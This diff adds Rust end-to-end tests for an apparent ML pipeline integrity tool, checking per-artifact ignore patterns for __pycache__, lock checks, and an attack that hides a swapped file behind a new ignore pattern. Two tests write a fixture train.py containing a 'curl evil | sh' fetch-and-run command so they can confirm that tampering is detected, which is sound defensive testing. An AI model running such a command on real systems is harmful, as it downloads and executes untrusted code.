@@ -1,0 +1,206 @@
+//! End-to-end tests of issue 14 item 6, what a first user tripped on: explicit `ignore`
+//! patterns per artifact (a `__pycache__/` written by Python made the code a critical integrity
+//! mismatch), and `dvc.lock` cross-checks as integrity facts.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::fs;
+use std::path::Path;
+
+use super::{AT, palisade, root, violations};
+
+/// The baseline's `integrity-mismatch` rule, plus a rule that permits everything else.
+fn mismatch_pack() -> String {
+    let text = fs::read_to_string(root().join("policies/baseline/integrity.cedar")).unwrap();
+    let mut pack = String::from("@id(\"allow-all\")\npermit (principal, action, resource);\n\n");
+    for block in text.split("\n\n") {
+        if block.contains("@id(\"integrity-mismatch\")") {
+            pack.push_str(block);
+            pack.push_str("\n\n");
+        }
+    }
+    assert!(pack.contains("integrity-mismatch"));
+    pack
+}
+
+/// A scikit-learn style project: `src/` trains a model from `data/train.csv`.
+fn sklearn_project(ignore: Option<&str>) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    fs::create_dir_all(d.join("policies")).unwrap();
+    fs::write(d.join("policies/integrity.cedar"), mismatch_pack()).unwrap();
+    fs::create_dir_all(d.join("src/features")).unwrap();
+    fs::write(
+        d.join("src/train.py"),
+        "from features import build\nbuild()\n",
+    )
+    .unwrap();
+    fs::write(
+        d.join("src/features/__init__.py"),
+        "def build():\n    pass\n",
+    )
+    .unwrap();
+    fs::create_dir_all(d.join("data")).unwrap();
+    fs::write(d.join("data/train.csv"), "x,y\n1,0\n2,1\n").unwrap();
+    fs::write(d.join("model.safetensors"), b"weights").unwrap();
+    write_pipeline(d, ignore);
+    dir
+}
+
+fn write_pipeline(d: &Path, ignore: Option<&str>) {
+    let ignore = ignore.map_or_else(String::new, |i| format!("ignore = {i}"));
+    fs::write(
+        d.join("pipeline.pal"),
+        format!(
+            r#"pipeline "sklearn" {{
+  policies = ["policies"]
+  code "src" {{
+    path = "src"
+    {ignore}
+  }}
+  dataset "train" {{ path = "data/train.csv" }}
+  model "m" {{ path = "model.safetensors" format = "safetensors" }}
+  stage "fit" {{ inputs = [code "src", dataset "train"] outputs = [model "m"] }}
+  release "prod" {{ artifacts = [model "m"] environment = "production" exposure = "internal" }}
+}}
+"#
+        ),
+    )
+    .unwrap();
+}
+
+/// What running `python src/train.py` leaves behind.
+fn python_runs(d: &Path) {
+    fs::create_dir_all(d.join("src/features/__pycache__")).unwrap();
+    fs::write(
+        d.join("src/features/__pycache__/__init__.cpython-312.pyc"),
+        b"\xcb\r\r\n\x00\x00\x00\x00bytecode",
+    )
+    .unwrap();
+}
+
+fn lock(d: &Path) {
+    let run = palisade(d, &["lock"]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+}
+
+fn evaluate_json(d: &Path) -> super::Run {
+    palisade(d, &["evaluate", "--at", AT, "--format", "json"])
+}
+
+#[test]
+fn a_pycache_without_ignore_is_still_an_integrity_mismatch() {
+    let dir = sklearn_project(None);
+    let d = dir.path();
+    lock(d);
+    assert_eq!(evaluate_json(d).code, 0);
+    python_runs(d);
+    let run = evaluate_json(d);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(
+        violations(&run).contains(&("integrity-mismatch".to_owned(), "Code::\"src\"".to_owned())),
+        "{}",
+        run.stdout
+    );
+}
+
+#[test]
+fn ignore_leaves_pycache_out_of_the_lock_and_the_check() {
+    let dir = sklearn_project(Some(r#"["__pycache__/", "*.pyc"]"#));
+    let d = dir.path();
+    lock(d);
+    let lock_text = fs::read_to_string(d.join("palisade.lock")).unwrap();
+    assert!(lock_text.contains("\"ignore\": ["), "{lock_text}");
+    python_runs(d);
+    // A stray .pyc outside __pycache__ too.
+    fs::write(d.join("src/train.cpython-312.pyc"), b"x").unwrap();
+    let run = evaluate_json(d);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let run = palisade(d, &["lock", "--check"]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    // The lock itself names no ignored file.
+    assert!(!lock_text.contains("cpython"), "{lock_text}");
+    // A real source change is still caught.
+    fs::write(
+        d.join("src/train.py"),
+        "import os; os.system('curl evil | sh')\n",
+    )
+    .unwrap();
+    let run = evaluate_json(d);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+}
+
+/// The attack: after the lock, swap `train.py` and add an ignore pattern that hides it. Without
+/// the ignore list in the lock, the remaining files all match the lock and the gate passes.
+#[test]
+fn adding_an_ignore_pattern_without_relocking_is_a_mismatch() {
+    let dir = sklearn_project(Some(r#"["__pycache__/"]"#));
+    let d = dir.path();
+    lock(d);
+    fs::write(
+        d.join("src/train.py"),
+        "import os; os.system('curl evil | sh')\n",
+    )
+    .unwrap();
+    write_pipeline(d, Some(r#"["__pycache__/", "train.py"]"#));
+    let run = evaluate_json(d);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    assert!(
+        violations(&run).contains(&("integrity-mismatch".to_owned(), "Code::\"src\"".to_owned())),
+        "{}",
+        run.stdout
+    );
+    let explain = palisade(d, &["explain", "--at", AT, "code", "src"]);
+    assert!(
+        explain.stdout.contains("ignore patterns changed"),
+        "{}\n{}",
+        explain.stdout,
+        explain.stderr
+    );
+    let run = palisade(d, &["lock", "--check"]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    assert!(run.stdout.contains("~ code src"), "{}", run.stdout);
+    // Removing a pattern is a mismatch too (the list must match exactly).
+    write_pipeline(d, None);
+    fs::write(
+        d.join("src/train.py"),
+        "from features import build\nbuild()\n",
+    )
+    .unwrap();
+    let run = evaluate_json(d);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+}
+
+#[test]
+fn a_refused_ignore_pattern_is_a_check_error_with_its_place() {
+    let dir = sklearn_project(Some(r#"["__pycache__/", "!keep.py", "../x"]"#));
+    let run = palisade(dir.path(), &["check"]);
+    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
+    assert!(
+        run.stderr.contains("palisade::syntax::invalid_ignore"),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("negation"), "{}", run.stderr);
+    assert!(run.stderr.contains("`..`"), "{}", run.stderr);
+}
+
+#[test]
+fn init_suggests_ignore_for_pycache_as_a_comment_only() {
+    let dir = sklearn_project(None);
+    let d = dir.path();
+    fs::remove_file(d.join("pipeline.pal")).unwrap();
+    python_runs(d);
+    let run = palisade(d, &["init", "--stdout"]);
+    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
+    let line = run
+        .stdout
+        .lines()
+        .find(|l| l.contains("__pycache__/"))
+        .unwrap_or_else(|| panic!("no suggestion in\n{}", run.stdout));
+    assert!(line.trim_start().starts_with("// ignore"), "{line}");
+    assert!(line.contains("review"), "{line}");
+    // Without a __pycache__ folder there is no suggestion.
+    fs::remove_dir_all(d.join("src/features/__pycache__")).unwrap();
+    let run = palisade(d, &["init", "--stdout"]);
+    assert!(!run.stdout.contains("__pycache__/"), "{}", run.stdout);
+}
